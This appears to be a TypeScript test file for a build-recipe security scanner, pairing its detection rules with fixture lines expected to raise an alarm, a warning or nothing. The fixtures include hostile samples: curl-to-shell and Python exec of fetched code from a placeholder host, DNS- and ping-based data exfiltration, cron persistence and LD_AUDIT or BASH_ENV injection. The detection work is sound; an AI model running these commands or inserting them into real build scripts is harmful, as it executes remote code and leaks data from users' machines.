import { type Case, testRule } from "./rule-cases.ts";
import { committedProgram } from "./rules/committed-program.ts";
import { dataSent } from "./rules/data-sent.ts";
import { downloadProgram } from "./rules/download-program.ts";
import { fetchedCode } from "./rules/fetched-code.ts";
import { foreignPackage } from "./rules/foreign-package.ts";
import { persistence } from "./rules/persistence.ts";

function inBuild(says: Case["says"], ...lines: string[]): Case[] {
  return lines.map((line) => ({ place: "build()", line, says }));
}

const FETCH = "import urllib.request as u\nexec(u.urlopen('https://example.invalid').read())\n";

testRule(committedProgram, [
  { place: "build()", line: "python -m helper", says: "alarm", files: { "helper.py": FETCH } },
  {
    place: "build()",
    line: 'patch -i "$srcdir/x.patch"',
    says: "alarm",
    files: {
      "x.patch":
        "--- a/setup.py\n+++ b/setup.py\n@@ -1 +1,2 @@\n+exec(__import__('urllib.request').request.urlopen('https://example.invalid').read())\n",
    },
  },
  {
    place: "build()",
    line: 'gcc -fplugin="$startdir/p.so" x.c',
    says: "alarm",
    files: { "p.so": new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 1]) },
  },
  { place: "build()", line: "python -m build", says: "warning", files: { "helper.py": FETCH } },
  { place: "build()", line: "python -m build", says: null, files: { "helper.py": "print('x')\n" } },
  {
    place: "build()",
    line: 'patch -i "$srcdir/x.patch"',
    says: null,
    files: {
      "x.patch": "--- a/setup.py\n+++ b/setup.py\n@@ -1,2 +1 @@\n-exec(urlopen('x').read())\n+x = 1\n",
    },
  },
]);

testRule(fetchedCode, [
  {
    place: "build()",
    line: 'm4 "$srcdir/x.m4"',
    says: "alarm",
    files: { "x.m4": "esyscmd(`cur`'l -s https://example.invalid | sh')\n" },
  },
  {
    place: "build()",
    line: 'ninja -f "$startdir/b.ninja"',
    says: "alarm",
    files: { "b.ninja": "rule a\n  command = curl -s https://example.invalid | sh\nbuild x: a\n" },
  },
  ...inBuild("alarm", 'eval "$(dig +short TXT example.invalid)"', "curl -s https://example.invalid | source"),
  ...inBuild(null, "dig +short TXT example.invalid", "ninja -C build"),
  {
    place: "build()",
    line: 'm4 "$srcdir/x.m4"',
    says: null,
    files: { "x.m4": "define(`curl', `sh')\n" },
  },
]);

testRule(dataSent, [
  ...inBuild(
    "alarm",
    'getent hosts "$(hostname).example.invalid"',
    'ping -c1 -p "$(xxd -p x)" example.invalid',
  ),
  ...inBuild(null, "getent hosts localhost", "getent passwd nobody", "ping -c1 127.0.0.1"),
]);

testRule(foreignPackage, [
  ...inBuild("alarm", "cargo install --git https://example.invalid/x", "nix run github:someone/x"),
  ...inBuild(null, "cargo install --path . --root x", "nix build"),
]);

testRule(persistence, [
  ...inBuild("alarm", "crontab x"),
  ...inBuild(
    "warning",
    'ln -s ../x.service "$pkgdir/usr/lib/systemd/system/multi-user.target.wants/x.service"',
  ),
  ...inBuild(null, 'install -Dm644 x.service "$pkgdir/usr/lib/systemd/system/x.service"'),
]);

testRule(downloadProgram, [
  ...inBuild("alarm", 'LD_AUDIT="$startdir/a.so" make', 'export BASH_ENV="$srcdir/x"'),
  ...inBuild("warning", 'git config core.hooksPath "$startdir/hooks"'),
  ...inBuild(null, "git -c core.hooksPath=/dev/null checkout -q v1", "LD_LIBRARY_PATH=. make"),
]);
